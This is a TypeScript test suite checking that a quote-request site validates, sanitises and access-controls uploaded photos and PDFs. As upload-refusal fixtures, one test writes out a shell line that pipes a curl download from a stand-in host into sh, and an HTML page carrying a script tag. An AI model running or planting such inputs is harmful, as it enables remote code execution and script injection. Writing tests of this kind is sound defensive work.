/**
 * Files attached to quote requests (issue 21 points 1 and 2), through our routes as a browser or
 * an attacker reaches them: uploads ahead of the submit (JavaScript) and files sent with the form
 * (no JavaScript); type by content, size and count limits, HEIC converted, EXIF GPS gone, PDFs
 * that do not parse or are encrypted refused; the sweep after a crash between upload and submit;
 * and who may read each file URL (role x route).
 */
import { randomUUID } from "node:crypto";
import fs from "node:fs";
import path from "node:path";
import { eq } from "drizzle-orm";
import { PDFDocument } from "pdf-lib";
import sharp from "sharp";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import * as schema from "~/db/schema";
import {
  QUOTE_FILE_MAX_BYTES,
  QUOTE_FILE_MESSAGES,
  type QuoteUploadAnswer,
} from "~/features/quotes/files";
import { sweepQuoteUploads } from "~/features/quotes/files.server";
import { noStoreForPrivateResponses } from "~/lib/cache-control.server";
import { db } from "~/lib/db.server";
import { storage } from "~/lib/storage.server";
import * as accountFileRoute from "~/routes/account/quote-file";
import * as adminFileRoute from "~/routes/admin/quote-file";
import * as requestRoute from "~/routes/quotes/request";
import * as statusFileRoute from "~/routes/quotes/status-file";
import * as uploadRoute from "~/routes/quotes/upload";
import { contextFor, makeUser, ORIGIN, run } from "../setup/admin";
import { drivers, freshDatabase, type TestDatabase } from "../setup/database";
import { jpegWithGps, pdfSaying } from "../setup/fixture-files";
import { formData, validAnswers } from "../setup/forms";
import { startS3Server, type TestS3Server } from "../setup/s3";
import { throughRoot } from "../setup/through-root";

const SLOW = 180_000;
const HEIC = fs.readFileSync(path.resolve("tests/fixtures/photo-gps.heic"));

/** A JPEG as a phone writes it: EXIF with the camera and GPS position. */
const pdf = () => pdfSaying("Radon 2.1 pCi/L");

/** A PDF whose trailer names an encryption dictionary (a password-protected file). */
async function encryptedPdf(): Promise<Buffer> {
  const text = (await pdf()).toString("latin1");
  return Buffer.from(
    text.replace(
      "trailer\n<<",
      "trailer\n<<\n/Encrypt << /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >>",
    ),
    "latin1",
  );
}

const file = (bytes: Uint8Array, name: string, type: string) =>
  new File([new Uint8Array(bytes)], name, { type });

/** POST /quotes/uploads through the root middleware, as the form's script sends it. */
async function uploadAhead(
  kind: "photo" | "report",
  upload: File,
  submissionKey: string,
  ip = "198.51.100.20",
): Promise<{ status: number; answer: QuoteUploadAnswer }> {
  const body = new FormData();
  body.append("kind", kind);
  body.append("submissionKey", submissionKey);
  body.append("file", upload);
  const response = await throughRoot(
    new Request(`${ORIGIN}/quotes/uploads`, { method: "POST", headers: { Origin: ORIGIN }, body }),
    uploadRoute.action,
    { ip },
  );
  return { status: response.status, answer: (await response.json()) as QuoteUploadAnswer };
}

/** The mold form posted through the root middleware (a guest without a session cookie). */
async function submitMold(fields: Record<string, string | string[]>, files: [string, File][] = []) {
  const body = formData({ ...validAnswers.mold, ...fields });
  for (const [name, value] of files) body.append(name, value);
  return throughRoot(
    new Request(`${ORIGIN}/quotes/mold-remediation`, {
      method: "POST",
      headers: { Origin: ORIGIN },
      body,
    }),
    requestRoute.action,
    { params: { service: "mold-remediation" } },
  );
}

const quoteRows = () => db.select().from(schema.quotes);
const attachmentsOf = (quoteId: string) =>
  db
    .select()
    .from(schema.quote_attachments)
    .innerJoin(
      schema.quote_uploads,
      eq(schema.quote_uploads.id, schema.quote_attachments.upload_id),
    )
    .where(eq(schema.quote_attachments.quote_id, quoteId))
    .orderBy(schema.quote_attachments.position);

/** A file as the admin's route serves it. */
async function adminGet(quoteId: string, fileId: string, thumbnail = false) {
  const admin = await makeUser(`admin-${randomUUID().slice(0, 8)}@example.com`, {
    admin: true,
    totp: true,
  });
  const outcome = await run(adminFileRoute.loader, {
    request: new Request(
      `${ORIGIN}/admin/quotes/${quoteId}/files/${fileId}${thumbnail ? "?size=thumbnail" : ""}`,
    ),
    context: contextFor(admin),
    params: { id: quoteId, fileId },
  });
  return outcome.value as Response;
}

let s3: TestS3Server;
beforeAll(async () => {
  s3 = await startS3Server("quote-files");
});
afterAll(async () => {
  await s3?.close();
});

describe.each(drivers)("files attached to quote requests on %s", (driver) => {
  let database: TestDatabase;
  beforeEach(async () => {
    database = await freshDatabase(driver);
  }, SLOW);
  afterEach(async () => {
    await database.dispose();
  });

  it(
    "a guest's photos (JPEG with GPS, iPhone HEIC) and PDF uploaded ahead are attached to the quote, converted and stripped",
    async () => {
      const key = randomUUID();
      const uploads = [
        await uploadAhead("photo", file(await jpegWithGps(), "kitchen.jpg", "image/jpeg"), key),
        await uploadAhead("photo", file(HEIC, "IMG_0001.HEIC", "image/heic"), key),
        await uploadAhead("report", file(await pdf(), "radon-test.pdf", "application/pdf"), key),
      ];
      expect(uploads.map((u) => u.status)).toEqual([201, 201, 201]);
      const ids = uploads.map((u) => u.answer.file!.id);
      // nothing is attached before the submit
      expect(await db.select().from(schema.quote_attachments)).toEqual([]);

      const answer = await submitMold({ submissionKey: key, uploadedFiles: ids });
      expect(answer.status).toBe(302);
      const [quote] = await quoteRows();
      const attached = await attachmentsOf(quote!.id);
      expect(attached.map((a) => a.quote_uploads.id)).toEqual(ids);
      // the lead alert says what came with it (the files stay on the site)
      const [alert] = await db
        .select()
        .from(schema.mail_outbox)
        .where(eq(schema.mail_outbox.kind, "lead_alert"));
      expect(alert?.text_body).toContain("ATTACHED: 2 photos, 1 lab report");
      expect(attached.map((a) => a.quote_uploads.original_name)).toEqual([
        "kitchen.jpg",
        "IMG_0001.HEIC",
        "radon-test.pdf",
      ]);

      for (const id of ids.slice(0, 2)) {
        const photo = await adminGet(quote!.id, id);
        expect(photo.status).toBe(200);
        expect(photo.headers.get("Content-Type")).toBe("image/jpeg");
        const bytes = Buffer.from(await photo.arrayBuffer());
        const meta = await sharp(bytes).metadata();
        // HEIC converted to JPEG; no EXIF at all (so no GPS), no XMP or IPTC
        expect(meta.format).toBe("jpeg");
        expect(meta.exif).toBeUndefined();
        expect(meta.xmp).toBeUndefined();
        expect(meta.iptc).toBeUndefined();
        expect(bytes.includes(Buffer.from("GPS"))).toBe(false);
        const thumbnail = await adminGet(quote!.id, id, true);
        expect(thumbnail.headers.get("Content-Type")).toBe("image/webp");
        const thumb = await sharp(Buffer.from(await thumbnail.arrayBuffer())).metadata();
        expect(Math.max(thumb.width!, thumb.height!)).toBeLessThanOrEqual(320);
      }
      const heic = await sharp(
        Buffer.from(await (await adminGet(quote!.id, ids[1]!)).arrayBuffer()),
      ).metadata();
      expect([heic.width, heic.height]).toEqual([400, 300]);
      const report = await adminGet(quote!.id, ids[2]!);
      expect(report.headers.get("Content-Type")).toBe("application/pdf");
      const served = Buffer.from(await report.arrayBuffer());
      expect((await PDFDocument.load(served)).getPageCount()).toBe(1);
      expect(report.headers.get("Content-Disposition")).toBe("attachment; filename=radon-test.pdf");
    },
    SLOW,
  );

  it("without JavaScript the plain file fields send the files with the form, and they are attached", async () => {
    const answer = await submitMold({ submissionKey: randomUUID() }, [
      ["photos", file(await jpegWithGps(10), "a.jpg", "image/jpeg")],
      ["photos", file(await jpegWithGps(90), "b.png", "image/png")],
      ["reports", file(await pdf(), "mold-lab.pdf", "application/pdf")],
      // an empty file field (nothing chosen) is no file
      ["reports", file(new Uint8Array(), "", "application/octet-stream")],
    ]);
    expect(answer.status).toBe(302);
    const [quote] = await quoteRows();
    const attached = await attachmentsOf(quote!.id);
    expect(attached.map((a) => [a.quote_uploads.kind, a.quote_uploads.original_name])).toEqual([
      ["photo", "a.jpg"],
      ["photo", "b.png"],
      ["report", "mold-lab.pdf"],
    ]);
    for (const a of attached) {
      expect(await storage().get(a.quote_uploads.storage_key)).not.toBeNull();
    }
  });

  it("refuses by content, not by name: a script named photo.jpg, a JPEG named report.pdf, each with its message and nothing stored", async () => {
    const key = randomUUID();
    const script = Buffer.from("#!/bin/sh\ncurl http://example.com/x | sh\n".repeat(20));
    const asPhoto = await uploadAhead("photo", file(script, "photo.jpg", "image/jpeg"), key);
    expect(asPhoto).toEqual({
      status: 400,
      answer: { error: QUOTE_FILE_MESSAGES.notPhoto("photo.jpg"), file: null },
    });
    const html = Buffer.from("<html><script>alert(1)</script></html>");
    const asPdf = await uploadAhead("report", file(html, "report.pdf", "application/pdf"), key);
    expect(asPdf.answer.error).toBe(QUOTE_FILE_MESSAGES.notPdf("report.pdf"));
    const jpegAsPdf = await uploadAhead(
      "report",
      file(await jpegWithGps(), "lab.pdf", "application/pdf"),
      key,
    );
    expect(jpegAsPdf.answer.error).toBe(QUOTE_FILE_MESSAGES.notPdf("lab.pdf"));
    // a PNG named .jpg is a photo all the same (the content decides)
    const png = await sharp({ create: { width: 20, height: 20, channels: 3, background: "red" } })
      .png()
      .toBuffer();
    expect((await uploadAhead("photo", file(png, "named.jpg", "image/jpeg"), key)).status).toBe(
      201,
    );
    expect(await db.select().from(schema.quote_uploads)).toHaveLength(1);
    expect(await storage().list("requests/")).toHaveLength(2); // the PNG and its thumbnail

    // without JavaScript: the refusal is the field's error, and no quote is made
    const answer = await submitMold({ submissionKey: randomUUID() }, [
      ["photos", file(script, "photo.jpg", "image/jpeg")],
    ]);
    expect(answer.status).toBe(400);
    expect(JSON.stringify(await answer.json())).toContain(
      QUOTE_FILE_MESSAGES.notPhoto("photo.jpg"),
    );
    expect(await quoteRows()).toEqual([]);
  });

  it("refuses a PDF that does not parse and an encrypted PDF, each saying why", async () => {
    const key = randomUUID();
    const broken = Buffer.from("%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R\n%%EOF\n");
    expect(
      (await uploadAhead("report", file(broken, "broken.pdf", "application/pdf"), key)).answer
        .error,
    ).toBe(QUOTE_FILE_MESSAGES.unreadablePdf("broken.pdf"));
    const truncated = (await pdf()).subarray(0, 300);
    expect(
      (await uploadAhead("report", file(truncated, "cut.pdf", "application/pdf"), key)).answer
        .error,
    ).toBe(QUOTE_FILE_MESSAGES.unreadablePdf("cut.pdf"));
    const locked = await uploadAhead(
      "report",
      file(await encryptedPdf(), "locked.pdf", "application/pdf"),
      key,
    );
    expect(locked).toEqual({
      status: 400,
      answer: { error: QUOTE_FILE_MESSAGES.encryptedPdf("locked.pdf"), file: null },
    });
    expect(await db.select().from(schema.quote_uploads)).toEqual([]);
  });

  it("refuses a file over 15 MB (413, naming it) and more than 10 photos or 3 reports", async () => {
    const key = randomUUID();
    const big = Buffer.concat([await jpegWithGps(), Buffer.alloc(QUOTE_FILE_MAX_BYTES)]);
    const tooLarge = await uploadAhead("photo", file(big, "huge.jpg", "image/jpeg"), key);
    expect(tooLarge).toEqual({
      status: 413,
      answer: { error: QUOTE_FILE_MESSAGES.tooLarge("huge.jpg"), file: null },
    });
    // a body far past the limit is refused by the root middleware before it is parsed
    const body = new FormData();
    body.append("kind", "photo");
    body.append("submissionKey", key);
    body.append("file", file(Buffer.alloc(QUOTE_FILE_MAX_BYTES + 200_000), "x.jpg", "image/jpeg"));
    const refused = await throughRoot(
      new Request(`${ORIGIN}/quotes/uploads`, {
        method: "POST",
        headers: { Origin: ORIGIN },
        body,
      }),
      uploadRoute.action,
    );
    expect(refused.status).toBe(413);
    expect(await refused.text()).toBe(QUOTE_FILE_MESSAGES.tooLarge("The file"));

    const small = await sharp({ create: { width: 8, height: 8, channels: 3, background: "blue" } })
      .jpeg()
      .toBuffer();
    const eleven = Array.from({ length: 11 }, (_, i): [string, File] => [
      "photos",
      file(small, `p${i}.jpg`, "image/jpeg"),
    ]);
    const answer = await submitMold({ submissionKey: randomUUID() }, eleven);
    expect(answer.status).toBe(400);
    expect(JSON.stringify(await answer.json())).toContain(QUOTE_FILE_MESSAGES.tooMany("photo"));
    const reports = Array.from({ length: 4 }, (_, i): [string, File] => [
      "reports",
      file(Buffer.alloc(10), `r${i}.pdf`, "application/pdf"),
    ]);
    const tooManyReports = await submitMold({ submissionKey: randomUUID() }, reports);
    expect(JSON.stringify(await tooManyReports.json())).toContain(
      QUOTE_FILE_MESSAGES.tooMany("report"),
    );
    expect(await quoteRows()).toEqual([]);
    expect(await db.select().from(schema.quote_uploads)).toEqual([]);
  });

  it("only the form render that uploaded a file can attach it; an upload id of another form is refused", async () => {
    const mine = randomUUID();
    const theirs = randomUUID();
    const upload = await uploadAhead(
      "photo",
      file(await jpegWithGps(), "x.jpg", "image/jpeg"),
      theirs,
    );
    const answer = await submitMold({
      submissionKey: mine,
      uploadedFiles: [upload.answer.file!.id],
    });
    expect(answer.status).toBe(400);
    expect(JSON.stringify(await answer.json())).toContain(QUOTE_FILE_MESSAGES.expired);
    expect(await quoteRows()).toEqual([]);
  });

  it(
    "a crash between upload and submit leaves no file without a quote and no quote without its files (the sweep)",
    async () => {
      // a form that uploaded and then never submitted (the browser closed, the server crashed)
      const abandoned = randomUUID();
      const left = await uploadAhead(
        "photo",
        file(await jpegWithGps(), "left.jpg", "image/jpeg"),
        abandoned,
      );
      // the process stopped after storing a file and before writing its row
      const strayKey = `requests/${randomUUID()}/photo.jpg`;
      await storage().put(strayKey, Buffer.from("half an upload"), "image/jpeg");
      // a request that was submitted with its files
      const kept = randomUUID();
      const attached = await uploadAhead(
        "report",
        file(await pdf(), "kept.pdf", "application/pdf"),
        kept,
      );
      expect(
        (await submitMold({ submissionKey: kept, uploadedFiles: [attached.answer.file!.id] }))
          .status,
      ).toBe(302);

      // before 24 hours nothing goes
      expect(await sweepQuoteUploads(new Date())).toEqual({ uploads: 0, strays: 0 });
      const later = new Date(Date.now() + 25 * 60 * 60 * 1000);
      expect(await sweepQuoteUploads(later)).toEqual({ uploads: 1, strays: 1 });
      const uploads = await db.select().from(schema.quote_uploads);
      expect(uploads.map((u) => u.id)).toEqual([attached.answer.file!.id]);
      const keys = (await storage().list("requests/")).map((e) => e.key);
      expect(keys).toEqual([uploads[0]!.storage_key]);
      expect(keys).not.toContain(strayKey);

      // the abandoned form comes back after the sweep: its files are gone, so no quote is made
      const late = await submitMold({
        submissionKey: abandoned,
        uploadedFiles: [left.answer.file!.id],
      });
      expect(late.status).toBe(400);
      expect(JSON.stringify(await late.json())).toContain(QUOTE_FILE_MESSAGES.expired);

      // every attachment of every quote still has its file
      for (const row of await db
        .select({ key: schema.quote_uploads.storage_key })
        .from(schema.quote_attachments)
        .innerJoin(
          schema.quote_uploads,
          eq(schema.quote_uploads.id, schema.quote_attachments.upload_id),
        )) {
        expect(await storage().get(row.key)).not.toBeNull();
      }
      // an attached upload cannot be deleted by anyone, the sweep included
      await expect(
        db
          .delete(schema.quote_uploads)
          .where(eq(schema.quote_uploads.id, attached.answer.file!.id)),
      ).rejects.toThrow();
    },
    SLOW,
  );

  it(
    "serves each file URL only to the requester (owner or status link) and admins, privately, and 404 to everyone else",
    async () => {
      const owner = await makeUser("owner@example.com");
      const other = await makeUser("other@example.com");
      const admin = await makeUser("admin@example.com", { admin: true, totp: true });
      const key = randomUUID();
      const photo = await uploadAhead(
        "photo",
        file(await jpegWithGps(), "p.jpg", "image/jpeg"),
        key,
      );
      const report = await uploadAhead(
        "report",
        file(await pdf(), "r.pdf", "application/pdf"),
        key,
      );
      const pending = await uploadAhead(
        "photo",
        file(await jpegWithGps(7), "q.jpg", "image/jpeg"),
        key,
      );
      const submitted = await run(requestRoute.action, {
        request: new Request(`${ORIGIN}/quotes/mold-remediation`, {
          method: "POST",
          headers: { Origin: ORIGIN },
          body: formData({
            ...validAnswers.mold,
            submissionKey: key,
            uploadedFiles: [photo.answer.file!.id, report.answer.file!.id],
          }),
        }),
        context: contextFor(owner),
        params: { service: "mold-remediation" },
      });
      expect(submitted.status).toBe(302);
      const [quote] = await quoteRows();
      const quoteId = quote!.id;
      expect(quote!.user_id).toBe(owner.id);
      // another quote with a file, to try through this one's URLs
      const otherKey = randomUUID();
      const foreign = await uploadAhead(
        "photo",
        file(await jpegWithGps(3), "f.jpg", "image/jpeg"),
        otherKey,
      );
      expect(
        (
          await submitMold({
            submissionKey: otherKey,
            uploadedFiles: [foreign.answer.file!.id],
            email: "x@example.com",
          })
        ).status,
      ).toBe(302);
      const mails = await db
        .select({ text: schema.mail_outbox.text_body })
        .from(schema.mail_outbox)
        .where(eq(schema.mail_outbox.quote_id, quoteId));
      const token = mails
        .map((m) => m.text?.match(/\/quotes\/status\/([A-Za-z0-9_-]{43})/)?.[1])
        .find(Boolean) as string;
      expect(token).toBeTruthy();
      const wrongToken = `${token.slice(0, -2)}${token.endsWith("AA") ? "BB" : "AA"}`;

      const files = [photo.answer.file!.id, report.answer.file!.id];
      const notOurs = [foreign.answer.file!.id, pending.answer.file!.id, "not-a-uuid"];
      type Route = "admin" | "account" | "status";
      const get = async (
        route: Route,
        reader: typeof owner | null,
        fileId: string,
        options: { thumbnail?: boolean; token?: string } = {},
      ) => {
        const suffix = options.thumbnail ? "?size=thumbnail" : "";
        const [fn, url, params] =
          route === "admin"
            ? [
                adminFileRoute.loader,
                `/admin/quotes/${quoteId}/files/${fileId}`,
                { id: quoteId, fileId },
              ]
            : route === "account"
              ? [
                  accountFileRoute.loader,
                  `/account/quotes/${quoteId}/files/${fileId}`,
                  { id: quoteId, fileId },
                ]
              : [
                  statusFileRoute.loader,
                  `/quotes/status/${options.token ?? token}/files/${fileId}`,
                  { token: options.token ?? token, fileId },
                ];
        const request = new Request(`${ORIGIN}${url}${suffix}`);
        const context = contextFor(reader);
        // the route, then the root's cache middleware as the router runs it
        return noStoreForPrivateResponses({ request, context } as never, async () => {
          const outcome = await run(fn as never, { request, context, params });
          return outcome.value instanceof Response
            ? outcome.value
            : new Response(null, {
                status: outcome.status,
                headers: outcome.location ? { Location: outcome.location } : {},
              });
        }) as Promise<Response>;
      };

      const allowed: [Route, typeof owner | null][] = [
        ["admin", admin],
        ["account", owner],
        ["status", null],
        ["status", other], // the link is the key, whoever holds it
      ];
      for (const [route, reader] of allowed) {
        for (const fileId of files) {
          const response = await get(route, reader, fileId);
          expect(response.status, `${route} ${reader?.email ?? "guest"}`).toBe(200);
          expect(response.headers.get("Cache-Control")).toBe("private, no-store");
          expect(response.headers.get("X-Content-Type-Options")).toBe("nosniff");
          expect(response.headers.get("Content-Disposition")).toMatch(
            /^(inline; filename=p\.jpg|attachment; filename=r\.pdf)$/,
          );
          expect(response.headers.get("Content-Security-Policy")).toContain("sandbox");
        }
        const thumbnail = await get(route, reader, files[0]!, { thumbnail: true });
        expect(thumbnail.status).toBe(200);
        expect(thumbnail.headers.get("Content-Type")).toBe("image/webp");
        for (const fileId of notOurs) expect((await get(route, reader, fileId)).status).toBe(404);
        // a report has no thumbnail
        expect((await get(route, reader, files[1]!, { thumbnail: true })).status).toBe(404);
      }

      // another customer on the owner's URL, a guest with a wrong or malformed token: 404
      for (const fileId of files) {
        expect((await get("account", other, fileId)).status).toBe(404);
        expect((await get("account", admin, fileId)).status).toBe(404); // admins use their own URL
        expect((await get("status", null, fileId, { token: wrongToken })).status).toBe(404);
        expect((await get("status", null, fileId, { token: "short" })).status).toBe(404);
        expect((await get("status", owner, fileId, { token: wrongToken })).status).toBe(404);
        // signed out: the account URL asks for a sign-in; the admin URL too, or refuses
        expect((await get("account", null, fileId)).status).toBe(302);
        expect([302, 403, 404]).toContain((await get("admin", null, fileId)).status);
        expect([302, 403, 404]).toContain((await get("admin", owner, fileId)).status);
        expect([302, 403, 404]).toContain((await get("admin", other, fileId)).status);
      }
      // the status link of the other quote cannot read this quote's files
      const wrong404 = await get("status", null, foreign.answer.file!.id);
      expect(wrong404.status).toBe(404);
      expect(wrong404.headers.get("Cache-Control")).toBe("private, no-store");
    },
    SLOW,
  );

  it(
    "on the S3 driver a request's files are stored in the bucket and served back through the routes",
    async () => {
      await database.dispose();
      database = await freshDatabase(driver, s3.env);
      expect(storage().driver).toBe("s3");
      const key = randomUUID();
      const photo = await uploadAhead("photo", file(HEIC, "IMG_0002.HEIC", "image/heic"), key);
      expect(
        (await submitMold({ submissionKey: key, uploadedFiles: [photo.answer.file!.id] })).status,
      ).toBe(302);
      const [quote] = await quoteRows();
      const served = await adminGet(quote!.id, photo.answer.file!.id);
      expect(served.status).toBe(200);
      expect(
        (await sharp(Buffer.from(await served.arrayBuffer())).metadata()).exif,
      ).toBeUndefined();
      expect(fs.existsSync(path.join(database.dataDir, "files"))).toBe(false);
      const [upload] = await db.select().from(schema.quote_uploads);
      expect((await storage().list(`requests/${upload!.id}/`)).length).toBe(2);
    },
    SLOW,
  );
});
